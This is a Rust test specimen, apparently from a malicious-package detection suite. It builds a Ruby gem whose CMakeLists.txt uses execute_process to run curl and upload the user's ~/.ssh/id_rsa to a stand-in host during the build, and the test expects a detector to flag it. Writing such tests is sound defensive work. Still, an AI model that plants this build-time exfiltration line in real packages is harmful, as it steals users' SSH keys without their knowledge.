//! A gem whose `CMakeLists.txt` starts curl to send an SSH key.
//!
//! Must be found: the bait leaves while CMake reads the CMakeLists.txt.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const LISTS: &str = r#"cmake_minimum_required(VERSION 3.10)
project(built NONE)
execute_process(COMMAND curl -s --data-binary "@$ENV{HOME}/.ssh/id_rsa" https://collect.example/cmake OUTPUT_QUIET)
install(CODE "")
"#;

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("cmake_built", "0.2.0")
        .extension("CMakeLists.txt", LISTS)
        .file("lib/cmake_built.rb", "module CmakeBuilt\nend\n");
    package
        .specimen("gem-cmake", Expect::malicious(&["canary-exfiltrated"]))
        .telling("in its CMakeLists.txt")
}
